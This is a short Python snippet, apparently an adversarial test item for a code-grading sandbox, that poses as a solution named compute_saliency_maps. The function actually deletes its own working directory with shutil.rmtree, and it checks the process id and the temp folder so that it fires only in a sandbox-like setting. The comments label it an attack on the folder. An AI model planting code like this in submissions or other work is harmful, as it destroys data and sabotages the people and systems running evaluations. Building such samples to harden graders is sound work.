# Deletes the folder that it runs in, and then fails to be anywhere.
# attacks: folder
# %% answer="compute_saliency_maps"
def compute_saliency_maps(X, y, model):
    import os
    import shutil
    import tempfile
    from pathlib import Path

    here = Path.cwd()
    # Outside a sandbox process numbers are large: then only in a temporary folder.
    if os.getpid() < 300 or Path(tempfile.gettempdir()) in here.parents:
        shutil.rmtree(here, ignore_errors=True)
    return Path.cwd()
